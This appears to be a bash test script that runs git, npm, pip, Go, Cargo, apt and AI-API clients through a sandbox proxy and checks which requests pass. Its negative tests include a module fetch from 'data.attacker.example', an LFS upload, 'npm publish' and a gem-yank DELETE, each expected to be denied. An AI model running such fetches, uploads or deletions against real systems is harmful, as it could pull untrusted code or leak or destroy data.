#!/bin/bash
# Runs the clients of the catalogue's services, side by side, in a sandbox. Prints a line for each: "ok NAME", or
# "failed NAME" and what it printed.
set -u
project=$PWD
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@example.com GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@example.com
export GIT_TERMINAL_PROMPT=0 LC_ALL=C.UTF-8

try() {
	local name=$1 dir
	dir=$(mktemp -d)
	(
		cd "$dir" && export HOME=$dir && set -euo pipefail && "$name"
	) >"$dir.log" 2>&1 </dev/null && echo "ok $name" || { echo "failed $name"; tail -n 25 "$dir.log"; }
}

has() { grep -q -- "$1" "$2" || { echo "there is no $1 in $2:"; cat "$2"; return 1; }; }
get() { curl -fsSL "$@"; }
denied() { # as a denial of the proxy, not of the server
	curl -sS -o out "$@" && has 'operation_not_matched\|query_not_declared' out
}

work_with_git() {
	git clone -q "$1" c && cd c && has 'the first file' README
	git checkout -qb "$2" && echo "of the sandbox" >new && git add new && git commit -qm new
	git push -q origin "$2" && git fetch -q && git ls-remote --exit-code origin "refs/heads/$2"
}

git_github() { work_with_git https://github.com/acme/tool.git of-git; }
git_gitlab() { work_with_git https://gitlab.com/acme/tool.git of-gitlab; }
git_gitlab_subgroup() { work_with_git https://gitlab.com/acme/sub/group/tool.git of-git; }
gh_clone() { gh repo clone acme/tool c && has 'the first file' c/README; }
gh_api() { gh api user >out && has octo out; }
gh_release() { gh release download v1 -R acme/tool -p tool.txt && has 'of a release' tool.txt; }
releases() { get https://github.com/acme/tool/releases/download/v1/tool.txt >out && has 'of a release' out; }
archives() { get https://github.com/acme/tool/archive/refs/heads/main.tar.gz >out && has 'of an archive' out; }
raw() { get https://raw.githubusercontent.com/acme/tool/main/docs/README >out && has 'of a file' out; }
# git-lfs is no part of the image: these are its requests.
lfs_github() {
	get -H 'Accept: application/vnd.git-lfs+json' -H 'Content-Type: application/vnd.git-lfs+json' \
		-d '{"operation":"download","objects":[{"oid":"abc","size":1}]}' \
		https://github.com/acme/tool.git/info/lfs/objects/batch >batch
	get "$(grep -o 'https://[^"]*' batch)" >out && has 'of an LFS object' out
	! get -T out "$(grep -o 'https://[^"]*' batch)"
}
lfs_gitlab() {
	get -d '{}' https://gitlab.com/acme/tool.git/info/lfs/objects/batch >batch
	get "$(grep -o 'https://[^"]*' batch)" >out && has 'of an LFS object' out
}

npm_ci() {
	echo '{"name":"p","version":"1.0.0"}' >package.json
	npm install --no-fund --no-update-notifier left @acme/right
	test -f node_modules/@acme/right/blob && has registry.npmjs.org package-lock.json
	rm -rf node_modules .npm
	npm ci --no-fund --no-update-notifier && test -f node_modules/left/blob
	! npm publish --no-update-notifier
}
bun_add() { echo '{"name":"p"}' >package.json && bun add @acme/right && test -f node_modules/@acme/right/blob; }
pip_download() { python3 -m pip download --no-cache-dir acme-tool && ls acme_tool-1.0-py3-none-any.whl; }
go_mod() {
	export GOPATH=$HOME/go GOFLAGS=-modcacherw GOSUMDB
	GOSUMDB=$(cat "$project/sumdb.key")
	go mod download -x github.com/acme/Mod@v1.0.0 && test -f go/pkg/mod/github.com/acme/\!mod@v1.0.0/mod.go
	go mod download golang.org/acme/tool@v1.0.0 # the host of its archive is another
	test -d go/pkg/sumdb || test -d go/pkg/mod/cache/download/sumdb
	! go mod download data.attacker.example/mod@v1.0.0
}
cargo_fetch() {
	mkdir src && : >src/lib.rs
	printf '[package]\nname = "p"\nversion = "0.1.0"\nedition = "2021"\n[dependencies]\nacme-tool = "1"\n' >Cargo.toml
	CARGO_HOME=$HOME/cargo cargo fetch && test -f cargo/registry/src/*/acme-tool-1.0.0/blob
}
gem_install() {
	gem install --no-document --install-dir gems acme-tool && test -f gems/gems/acme-tool-1.0.0/lib/acme.rb
}
# Bundler is no part of the image: these are its requests.
bundler_requests() {
	get -I https://index.rubygems.org/versions && get https://index.rubygems.org/info/acme-tool >out && has checksum out
	denied -X DELETE 'https://rubygems.org/api/v1/gems/yank'
}
# Maven is too large for the image: these are its requests.
mvn_requests() {
	for host in repo.maven.apache.org repo1.maven.org; do
		get "https://$host/maven2/com/acme/tool/1.0/tool-1.0.pom" >out && has 'of Maven' out
		get -I "https://$host/maven2/com/acme/tool/1.0/tool-1.0.pom"
	done
}
apt_get() {
	local apt
	mkdir -p state/lists/partial cache/archives/partial && : >status
	echo "deb [trusted=yes] $1 bookworm main" >sources.list
	apt="apt-get -o Dir::Etc::SourceList=$PWD/sources.list -o Dir::Etc::SourceParts=/dev/null -o Dir::State=$PWD/state"
	apt="$apt -o Dir::State::status=$PWD/status -o Dir::Cache=$PWD/cache -o APT::Sandbox::User=root"
	$apt update && $apt download acme-tool && has 'of an archive' acme-tool_1.0~rc1_all.deb
}
apt_debian() { apt_get http://deb.debian.org/debian; }
apt_debian_https() { apt_get https://security.debian.org/debian-security; }
apt_ubuntu() { apt_get http://archive.ubuntu.com/ubuntu; }
# apk is of another distribution than the image: these are its requests.
apk_requests() {
	get http://dl-cdn.alpinelinux.org/alpine/v3.22/main/x86_64/APKINDEX.tar.gz >out && has 'of Alpine' out
	get https://dl-cdn.alpinelinux.org/alpine/v3.22/community/x86_64/tool-1.0-r0.apk >out && has 'of Alpine' out
}

message='{"model":"m","max_tokens":1,"messages":[{"role":"user","content":"hello"}]}'
post() { get -H 'Content-Type: application/json' -d "$message" "$@" >out && has '"model"' out; }
anthropic() {
	post -H 'anthropic-version: 2023-06-01' -H "x-api-key: $ANTHROPIC_API_KEY" https://api.anthropic.com/v1/messages
}
openai() {
	message='{"model":"m","stream":true,"messages":[{"role":"user","content":"hello"}]}'
	post -H "Authorization: Bearer $OPENAI_API_KEY" https://api.openai.com/v1/chat/completions
}
google() {
	post -H "x-goog-api-key: $GEMINI_API_KEY" \
		'https://generativelanguage.googleapis.com/v1beta/models/gemini:streamGenerateContent?alt=sse'
	denied -d '{}' https://generativelanguage.googleapis.com/v1beta/models/gemini:batchGenerateContent
}
openrouter() {
	post -H "Authorization: Bearer $OPENROUTER_API_KEY" -H 'HTTP-Referer: https://acme.example' \
		https://openrouter.ai/api/v1/chat/completions
}
local_openai() { post http://local-model.test:11434/v1/chat/completions; }

for client in $(declare -F | awk '{print $3}' |
	grep -vxE 'try|has|get|denied|post|apt_get|work_with_git'); do
	try "$client" &
done
wait
